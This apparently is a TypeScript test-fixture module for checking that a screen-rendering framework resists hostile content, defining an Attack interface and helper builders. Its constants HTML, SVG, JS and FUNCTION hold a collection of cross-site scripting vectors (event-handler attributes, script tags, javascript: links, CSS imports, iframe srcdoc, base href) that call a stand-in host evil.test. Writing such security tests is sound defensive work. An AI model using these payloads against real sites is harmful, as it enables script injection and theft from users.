/** An attack on an island: a hostile screen or answer, and the texts and nodes that attacks are composed of. */
export interface Attack {
  /** Body of the island, as in a screen. */
  body: unknown;
  /** Maximum time to draw, ms; default 40 s. */
  withinMs?: number;
  /** Draws each node of the body in an island of its own. */
  apart?: boolean;
  /** Answer of the source `x`: for `${source.x}` and the API `source:x`. */
  data?: unknown;
  /** Error message of the write source `save`. */
  refusal?: string;
  /** Selectors to click in order, if present. */
  click?: string[];
  /** Text that must appear; otherwise the attack tested nothing. */
  shows?: string;
  /** Selector to hover. */
  hover?: string;
}

export const EVIL = 'https://evil.test';
export const JS = `window.hacked=1;fetch('${EVIL}/js')`;
export const HTML =
  `<img src="x" onerror="${JS}"><svg onload="${JS}"><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg><script>${JS}</script>` +
  `<a href="javascript:${JS}" id="bait">诱饵</a><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><img src="${EVIL}/pixel">` +
  `<form action="${EVIL}/form"><button id="bait2">诱饵</button></form><style>@import url(${EVIL}/css);body{background:url(${EVIL}/bg)}</style>` +
  `<div style="background:url(${EVIL}/style)">x</div><video poster="${EVIL}/poster" src="${EVIL}/video"></video><link rel="stylesheet" href="${EVIL}/link">` +
  `<details open ontoggle="${JS}"><summary>x</summary></details><math><mi xlink:href="javascript:${JS}">x</mi></math><base href="${EVIL}/">`;
export const FUNCTION = `function () { ${JS}; return 'x' }`;
export const SVG = `<svg onload="${JS}"><script>${JS}</script><image href="${EVIL}/svg"/></svg>`;
export const BAIT = ['#bait', '#bait2'];

export const tpl = (text: string): unknown => ({ type: 'tpl', tpl: text });
export const button = (more: object): unknown => ({ type: 'button', label: '按钮', className: 'press', ...more });
export const pressed = (more: object): Attack => ({ body: button(more), click: ['.press'] });
export const onEvent = (event: string, action: object): unknown => ({ [event]: { actions: [action] } });
export const chart = (config: unknown, more: object = {}): unknown => ({
  type: 'chart',
  height: 200,
  width: 400,
  config,
  ...more,
});
export const line = {
  xAxis: { type: 'category', data: ['a', 'b'] },
  yAxis: {},
  series: [{ type: 'line', data: [1, 2] }],
};
export const inForm = (...body: unknown[]): unknown => ({ type: 'form', title: '', body });
export const service = (api: unknown, more: object = {}): unknown => ({
  type: 'service',
  api,
  body: tpl('${x}'),
  ...more,
});
export const house = (...body: unknown[]): unknown => ({ type: 'house', body });
